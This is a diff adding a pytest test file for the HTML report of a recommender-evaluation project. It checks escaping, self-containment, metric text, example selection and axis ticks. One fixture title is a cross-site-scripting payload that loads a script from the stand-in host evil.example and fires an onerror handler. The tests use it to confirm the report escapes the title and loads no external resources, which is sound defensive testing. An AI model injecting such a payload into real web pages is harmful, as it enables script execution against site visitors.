@@ -1,0 +1,161 @@
+"""The page: self-contained, escaped, and saying what metrics.json says."""
+
+import io
+import re
+from html.parser import HTMLParser
+
+import numpy as np
+import pyarrow as pa
+import pytest
+import torch
+from PIL import Image
+
+from pixrec.config import EvaluateConfig
+from pixrec.data.items import ItemTable
+from pixrec.data.sequences import HeldOut
+from pixrec.evaluation import evaluate_scorers
+from pixrec.report import Example, _ticks, choose_examples, format_table, write_report
+
+MALICIOUS = '"><script src="https://evil.example/x.js"></script><img src=https://evil.example onerror=alert(1)>'
+
+
+class Rising:
+    def __init__(self, name: str) -> None:
+        self.name = name
+
+    def scores(self, histories: list[np.ndarray]) -> torch.Tensor:
+        return torch.arange(4.0).expand(len(histories), -1)
+
+
+HELD_OUT = HeldOut(["u0", "<u1>"], [np.array([3, 0]), np.array([1])], np.array([2, 3]))
+
+
+def png() -> bytes:
+    sink = io.BytesIO()
+    Image.new("RGB", (8, 8), "red").save(sink, "PNG")
+    return sink.getvalue()
+
+
+@pytest.fixture
+def items() -> ItemTable:
+    return ItemTable(
+        pa.table(
+            {
+                "item_id": ["a", "b", "c", "d"],
+                "title": ["A lamp", MALICIOUS, None, "A chair"],
+                "image": pa.array([png(), None, b"no picture", png()], pa.binary()),
+                "image_status": ["ok", "missing", "ok", "ok"],
+            }
+        )
+    )
+
+
+@pytest.fixture
+def metrics() -> dict:
+    mask = np.zeros(4, bool)
+    config = EvaluateConfig(bootstrap_samples=20)
+    scorers = [Rising("pixrec"), Rising("popularity")]
+    return evaluate_scorers(scorers, HELD_OUT, 4, config, cold=mask, with_image=~mask).metrics_json("leave_one_out")
+
+
+def page(tmp_path, metrics, items, **extra) -> str:
+    write_report(str(tmp_path), metrics, title="Lamps & chairs", items=items, **extra)
+    return (tmp_path / "index.html").read_text()
+
+
+class Audit(HTMLParser):
+    """Every tag and every attribute that a browser would load something from."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+        self.loads: list[str] = []
+        self.open: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+        self.loads += [value for name, value in attrs if name in ("src", "href", "srcset", "data", "action", "poster")]
+        self.loads += [value for name, value in attrs if name.startswith("on")]
+        if tag not in ("meta", "link", "img", "line", "rect", "circle", "polyline"):
+            self.open.append(tag)
+
+    def handle_startendtag(self, tag, attrs):
+        self.handle_starttag(tag, attrs)
+        if self.open and self.open[-1] == tag:
+            self.open.pop()
+
+    def handle_endtag(self, tag):
+        assert self.open.pop() == tag
+
+
+def full_page(tmp_path, metrics, items) -> str:
+    return page(
+        tmp_path,
+        metrics,
+        items,
+        examples=[
+            *choose_examples(Rising("pixrec"), HELD_OUT, EvaluateConfig(), k=2),
+            Example("u2", [1, 2], 0, [(1, 0.5), (2, 0.4)]),
+        ],
+        training_log=[{"step": s, "loss": 1.0, "loss_nig": 2.0, "loss_tt": 1.0, "loss_ut": 3 / s} for s in (1, 2)]
+        + [{"step": 2, "valid_ndcg@10": 0.25}, {"step": 3, "loss_nig": float("nan")}],
+        notes=["A <b>note</b>."],
+        ceiling={"name": "oracle", "recall@10": 0.9},
+    )
+
+
+def test_a_malicious_title_stays_text_and_nothing_is_loaded(tmp_path, metrics, items):
+    html = full_page(tmp_path, metrics, items)
+    audit = Audit()
+    audit.feed(html)
+    assert audit.open == []  # every tag is closed in order
+    assert "script" not in audit.tags
+    assert audit.loads
+    assert all(value.startswith("data:") for value in audit.loads)
+    assert "&lt;script src=" in html
+    assert "&lt;u1&gt;" in html
+    assert "A &lt;b&gt;note&lt;/b&gt;." in html
+    assert not re.search(r"url\(|@import", html)
+    assert "default-src 'none'" in html
+
+
+def test_the_page_says_what_the_numbers_say(tmp_path, metrics, items):
+    html = full_page(tmp_path, metrics, items)
+    for text in ("Lamps &amp; chairs", "Hit at rank 2", "Hit at rank 1", "Miss: not in the first 2", "oracle 0.9000"):
+        assert text in html
+    for text in ("User against item", "0.25", "Split: leave one out", "of 4 items", "Ties count against", "100.0 %"):
+        assert text in html
+    assert f"{metrics['results']['pixrec']['mrr']:.4f}" in html
+    assert html.count("data:image/jpeg;base64,") == 2 * 2 + 1 + 1  # pictures of a and d; c's bytes are no picture
+
+
+def test_a_bare_metrics_json_is_enough(tmp_path, metrics, items):
+    bare = {key: metrics[key] for key in ("protocol", "users", "results")}
+    html = page(tmp_path, bare, items)
+    assert "Training" not in html
+    assert "Histories and answers" not in html
+
+
+def test_examples_follow_the_setting_for_seen_items():
+    allowed = choose_examples(Rising("pixrec"), HELD_OUT, EvaluateConfig(), k=3)
+    filtered = choose_examples(Rising("pixrec"), HELD_OUT, EvaluateConfig(seen="filtered"), k=3)
+    assert [[row for row, _ in e.recommended] for e in allowed] == [[3, 2, 1], [3, 2, 1]]
+    assert [[row for row, _ in e.recommended] for e in filtered] == [[2, 1], [3, 2, 0]]
+    assert choose_examples(Rising("pixrec"), HELD_OUT, EvaluateConfig(report_histories=0)) == []
+
+
+def test_table_for_the_terminal(metrics):
+    lines = format_table(metrics).splitlines()
+    assert [line.split()[0] for line in lines[2:]] == ["pixrec", "popularity"]
+    assert "1.0000 to 1.0000" in lines[2]
+    assert len({len(line) for line in lines}) == 1
+
+
+@pytest.mark.parametrize(
+    ("low", "high"), [(0, 1), (0, 0), (0, 0.62), (-0.03, 0.2), (1.9, 7.3), (2, 2), (0, 3e-4), (-5, 0)]
+)
+def test_ticks_cover_the_values_with_round_numbers(low, high):
+    ticks = _ticks(low, high)
+    assert ticks[0] <= low <= high <= ticks[-1]
+    assert 2 <= len(ticks) <= 7
+    assert len({f"{tick:g}" for tick in ticks}) == len(ticks)
